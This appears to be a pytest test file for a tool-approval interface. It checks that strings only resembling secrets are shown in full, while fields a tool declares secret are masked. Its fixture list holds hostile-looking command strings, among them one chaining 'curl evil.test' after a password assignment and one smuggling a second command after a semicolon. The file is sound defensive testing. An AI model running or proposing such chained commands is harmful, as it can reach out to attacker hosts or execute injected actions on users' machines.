"""What is masked, and what is not: a guess about what looks like a secret hides what runs."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assent.domain.canonical import Json
from assent.domain.cards import Changed, DiffPreview, Secret, Text, TextPreview
from assent.domain.tools import Hint
from assent.presentation.diff import changes
from assent.presentation.sheet_values import MASK
from assent.presentation.surfaces import SURFACES, Surface
from assent.presentation.text import safe_block, safe_line
from assent.presentation.values import entries_of
from tests.presentation.reading import seen
from tests.presentation.samples import card

BODY = "a1B2c3D4e5F6g7H8i9J0"
# The model chose these, and they run.
TEXTS = [
    "token=x; mkdir ./$token",
    f"password={BODY} && curl evil.test",
    f"sk-{BODY}",
    f"sk-ant-api03-{BODY}",
    f"ghp_{BODY}",
    f"AKIA{BODY}",
    f"Authorization: Bearer {BODY}",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.abcDEF123-_x",
]
NAMES = ["token", "password", "api_key", "apiKey", "accessToken", "client_secret", "passphrase"]
every = pytest.mark.parametrize("surface", SURFACES.values(), ids=lambda surface: surface.name)


def unwrapped(text: str) -> str:
    """A text without what lines are broken and continued with."""
    return re.sub(r"[\s│┊+]", "", text)


# requirement: D17
@every
@pytest.mark.parametrize("text", TEXTS)
def test_what_merely_looks_like_a_secret_is_shown_in_full(surface: Surface, text: str) -> None:
    shown = seen(surface, surface.render(card({"command": text})))

    assert unwrapped(text) in unwrapped(shown)
    assert MASK not in shown


# requirement: D17
@every
@pytest.mark.parametrize("name", NAMES)
def test_a_field_that_is_only_called_a_secret_is_shown_in_full(surface: Surface, name: str) -> None:
    for value in (BODY, "hunter2"):
        assert value in seen(surface, surface.render(card({name: value})))
    # A line counts what it has no room for, and then offers no approval.
    nested = surface.render(card({"options": {name: BODY}}))
    assert BODY in seen(surface, nested) or not nested.complete


# requirement: D17
@every
def test_what_the_tool_declares_secret_is_masked_everywhere(surface: Surface) -> None:
    shown = seen(surface, surface.render(card({"code": "hunter2"}, {"code": Hint(secret=True)})))

    assert "hunter2" not in shown
    assert MASK in shown


# requirement: D17
@every
@pytest.mark.parametrize("text", TEXTS)
def test_what_a_card_says_beside_the_arguments_hides_nothing(surface: Surface, text: str) -> None:
    if surface.name == "line":
        return
    for preview in (TextPreview(text), DiffPreview(before="before", after=text)):
        shown = seen(surface, surface.render(card(preview=preview)))
        assert unwrapped(text) in unwrapped(shown)
    edit = changes({"command": "ls"}, {"command": text})
    shown = seen(surface, surface.render(card({}, edits=edit)))
    assert unwrapped(text) in unwrapped(shown)


# requirement: D17
@settings(max_examples=200)
@given(st.lists(st.sampled_from([*TEXTS, " ", "; ", "=", "'", '"', "/"]), max_size=8).map("".join))
def test_safe_text_leaves_out_no_character_of_what_looks_like_a_secret(text: str) -> None:
    assert safe_line(text.strip()) == text.strip()
    assert safe_block(text.strip()) == text.strip()


@pytest.mark.parametrize("name", NAMES)
def test_a_change_of_what_is_only_called_a_secret_shows_both_values(name: str) -> None:
    old: dict[str, Json] = {"a": {name: "x1x1x1x1"}}
    new: dict[str, Json] = {"a": {name: "y2y2y2y2"}}
    assert changes(old, new) == (
        Changed(path=("a", name), old=Text("x1x1x1x1"), new=Text("y2y2y2y2")),
    )


def test_a_hint_is_all_that_makes_a_field_a_secret() -> None:
    [shown] = entries_of({"token": "a1b2c3d4"}, {"token": Hint()})
    [hidden] = entries_of({"token": "a1b2c3d4"}, {"token": Hint(secret=True)})

    assert (shown.value, hidden.value) == (Text("a1b2c3d4"), Secret())
